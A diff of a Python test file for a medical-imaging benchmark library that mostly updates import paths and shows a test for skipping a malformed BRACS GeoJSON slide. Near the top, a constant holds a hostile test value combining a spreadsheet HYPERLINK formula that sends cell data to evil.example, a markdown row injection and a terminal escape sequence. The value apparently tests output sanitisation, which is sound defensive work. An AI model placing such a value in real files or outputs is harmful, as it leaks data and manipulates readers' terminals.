@@ -14,13 +14,14 @@ from report_runs import score, write_run
 
 from MedOpenClawLib.bench.cases import load_cases
 from MedOpenClawLib.bench.episode import EpisodeOutcome
+from MedOpenClawLib.bench.kit.parsing import parse_response
+from MedOpenClawLib.bench.modules import get
 from MedOpenClawLib.bench.outcomes import Tally
-from MedOpenClawLib.bench.parsers import parse_response
 from MedOpenClawLib.bench.progress import Progress
 from MedOpenClawLib.bench.report import write_report
 from MedOpenClawLib.bench.tasks import EpisodeTask
 from MedOpenClawLib.cli import main
-from MedOpenClawLib.sinks import csv_cell, one_line, terminal_text, write_json
+from MedOpenClawLib.core.sinks import csv_cell, one_line, terminal_text, write_json
 
 HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?x="&A1,"click")\n| injected | row |\x1b]0;title\x07'
 
@@ -102,8 +103,9 @@ def test_a_replay_chain_that_names_itself_does_not_stop_bench_report(tmp_path):
 def test_malformed_bracs_geojson_skips_that_slide_only(tmp_path):
     from PIL import Image
 
-    from MedOpenClawLib.bench.loaders import prepare
-    from MedOpenClawLib.bench.synthetic.slides import deterministic_xlsx, geojson_export, write_pyramid
+    from MedOpenClawLib.bench.modules.bracs.synthetic import deterministic_xlsx, geojson_export
+    from MedOpenClawLib.bench.package import prepare
+    from MedOpenClawLib.bench.synthetic.slide_layout import write_pyramid
 
     raw = tmp_path / "raw"
     folder = raw / "BRACS_WSI" / "val" / "Group_MT" / "Type_DCIS"
@@ -118,7 +120,7 @@ def test_malformed_bracs_geojson_skips_that_slide_only(tmp_path):
     (raw / "BRACS.xlsx").write_bytes(deterministic_xlsx(
         [["WSI Filename", "Set", "WSI label"], *([f"{slide_id}.svs", "val", "DCIS"] for slide_id in exports)],
         "WSI_Information"))
-    manifest = prepare("bracs", raw, tmp_path / "cases")
+    manifest = prepare(get("bracs"), raw, tmp_path / "cases")
     assert [case.case_id for case in load_cases(tmp_path / "cases")] == ["BRACS_1"]
     reasons = {item["case_id"]: item["reason"] for item in manifest["skipped"]}
     assert "malformed GeoJSON BRACS_2.geojson" in reasons["BRACS_2"]
